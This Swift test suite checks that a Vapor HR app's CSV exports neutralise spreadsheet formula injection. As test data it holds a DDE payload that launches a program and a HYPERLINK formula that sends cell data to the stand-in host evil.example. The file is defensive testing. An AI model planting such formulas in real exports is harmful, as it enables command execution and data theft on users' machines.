import Fluent
import Foundation
@testable import JibungotoApp
import JibungotoDomain
import Testing
import Vapor
import VaporTesting

/// Values that staff or strangers type reach HR's and the administrator's spreadsheets; none may
/// run there as a formula.
@Suite("CSV exports never hand Excel a formula")
struct CSVInjectionTests {
    static let payload = "+1+cmd|' /C calc'!A0"
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")"

    @Test func aSelfReportSkillIsExportedAsText() async throws {
        try await CareerTests().withRound { app, cycleID in
            let staff = Browser(app)
            try await staff.logIn(Demo.staff)
            try await staff.get(CareerRoute.selfReport.path)
            #expect(try await staff.post(CareerRoute.selfReport.path, CareerTests().form([("skills", Self.payload)])).status == .seeOther)
            let hr = Browser(app)
            try await hr.logIn(Demo.hr)
            let export = try await hr.get(CareerRoute.cycleExport(.id(cycleID)).path)
            #expect(export.status == .ok)
            #expect(export.body.string.contains("'" + Self.payload))
            #expect(!export.body.string.contains("," + Self.payload), "never at the start of a cell")
        }
    }

    @Test func aLoginAttemptsStaffNumberIsExportedAsText() async throws {
        try await withTestApp { app in
            try await Browser(app).logIn("@SUM(1+1)*cmd", password: "whatever-it-is")
            let admin = Browser(app)
            try await admin.logIn(Demo.administrator)
            let export = try await admin.get(AdminRoute.auditLogExport.path)
            #expect(export.status == .ok)
            #expect(export.body.string.contains("'@SUM(1+1)*"))
            #expect(!export.body.string.contains(",@SUM"))
        }
    }

    @Test func aStaffNameIsExportedAsText() async throws {
        try await withTestApp { app in
            try await OrganizationFixture.load(on: app.db)
            try await StaffMember.query(on: app.db).filter(\.$staffNumber == "X0001").set(\.$name, to: Self.hyperlink).update()
            let hr = Browser(app)
            try await hr.logIn(Demo.hr)
            let export = try await hr.get(OrganizationRoute.staffExport.path)
            #expect(export.status == .ok)
            #expect(export.body.string.contains("'=HYPERLINK("))
            #expect(!export.body.string.contains(",\"=HYPERLINK") && !export.body.string.contains(",=HYPERLINK"))
        }
    }
}
